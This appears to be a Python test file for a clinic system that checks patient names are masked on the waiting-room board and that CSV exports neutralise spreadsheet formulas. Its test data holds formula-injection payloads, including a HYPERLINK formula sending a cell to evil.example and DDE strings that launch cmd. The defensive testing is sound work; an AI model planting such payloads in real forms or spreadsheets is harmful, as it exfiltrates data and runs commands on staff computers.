"""What the public sees and can do: the waiting-room board, /book, exports, headers, file modes and uploads."""
from __future__ import annotations

import csv
import io
import json
from datetime import date

from sqlmodel import select

from models import Patient, Payment, PaymentMethod
from services import billing, booking, checkin, online_booking, queue, reports
from services.billing import Tender
from services.csv_export import csv_bytes, safe_cell
from tests.factories import NOW, TZ, local, make_clinic
from tests.test_billing import bill, make_visit, pay

DAY = 23


# ---------------------------------------------------------------- the board masks every name

async def test_the_board_masks_a_one_word_name_too(db):
    clinic = await make_clinic(db, patients=1)
    async with db.write() as session:
        patient = await session.get(Patient, clinic.patient_ids[0])
        patient.full_name = 'Hùng'
        session.add(patient)
        await session.commit()
    async with db.write() as session:
        await checkin.walk_in(session, clinic.reception, patient_id=clinic.patient_ids[0],
                              doctor_id=clinic.doctor_ids[0], tz=TZ, now=local(DAY, 8, 0))
    async with db.write() as session:
        queue_id = (await queue.queue_for_doctor(session, clinic.doctor_ids[0])).id
    async with db.read() as session:
        views = await queue.board_views(session, [queue_id], tz=TZ, now=local(DAY, 8, 1))
    shown = json.dumps([t.masked_name for t in views[0].waiting], ensure_ascii=False)
    assert 'Hùng' not in shown and json.loads(shown) == ['H.']
    assert queue.masked_name('  hùng ') == 'H.' and queue.masked_name('Nguyễn Văn An') == 'Nguyễn V. A.'


# ---------------------------------------------------------------- CSV exports cannot carry formulas

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
FORMULA_REASON = "+cmd|' /C calc'!A0"


def parsed(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode('utf-8-sig'))))


async def test_a_formula_typed_on_the_booking_page_is_plain_text_in_the_appointments_export(db):
    clinic = await make_clinic(db)
    async with db.write() as session:
        held = await booking.hold_slot(session, doctor_id=clinic.doctor_ids[0], service_id=clinic.consultation_id,
                                       start_at=local(DAY, 10, 0), tz=TZ, now=NOW, client_key='visitor')
    request = online_booking.OnlineRequest(full_name=FORMULA_NAME, phone='0977000111', email='x@example.test',
                                           date_of_birth=date(1990, 1, 1), reason=FORMULA_REASON)
    async with db.write() as session:
        await online_booking.book(session, hold_token=held.token, request=request, tz=TZ, now=NOW)
    async with db.read() as session:
        data = await reports.appointments_csv(session, clinic.cashier, NOW.date(), NOW.date(), tz=TZ,
                                              currency='VND', exponent=0)
    row = parsed(data)[0]
    assert row['patient_name'] == "'" + FORMULA_NAME and row['reason'] == "'" + FORMULA_REASON
    assert row['services_price'] == '150000'  # amounts stay numbers


async def test_transaction_export_quotes_text_cells_and_keeps_a_refund_a_negative_number(db):
    clinic = await make_clinic(db)
    async with db.write() as session:
        patient = await session.get(Patient, clinic.patient_ids[0])
        patient.full_name = '@SUM(1+1)*cmd|"/C calc"!A0'
        session.add(patient)
        await session.commit()
    invoice_id = await bill(db, clinic.cashier, await make_visit(db, clinic))
    await pay(db, clinic.cashier, invoice_id, Tender(PaymentMethod.CARD, 150_000, reference='-1+1'))
    async with db.write() as session:
        payment_id = (await session.exec(select(Payment.id))).one()
        await billing.refund(session, clinic.cashier, payment_id, 30_000, '=1+1 goodwill', now=NOW)
    async with db.read() as session:
        data = await reports.transactions_csv(session, clinic.cashier, reports.TransactionFilter(NOW.date(), NOW.date()),
                                              tz=TZ, currency='VND', exponent=0)
    rows = parsed(data)
    assert {r['patient_name'] for r in rows} == {'\'@SUM(1+1)*cmd|"/C calc"!A0'}
    assert sorted(r['amount'] for r in rows) == ['-30000', '150000']
    assert {r['reason'] for r in rows} == {'', "'=1+1 goodwill"}
    assert "'-1+1" in {r['reference'] for r in rows}


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers():
    for start in ('=', '+', '-', '@', '\t', '\r'):
        assert safe_cell(f'{start}1+1') == f"'{start}1+1"
    assert safe_cell('Lê Thị Hồng') == 'Lê Thị Hồng' and safe_cell(None) == '' and safe_cell(-30000) == -30000
    assert safe_cell(reports.major_units(-1250, 2)) == reports.major_units(-1250, 2)
    assert csv_bytes(['a', 'b'], [['=1', -5]]).decode('utf-8-sig') == "a,b\r\n'=1,-5\r\n"
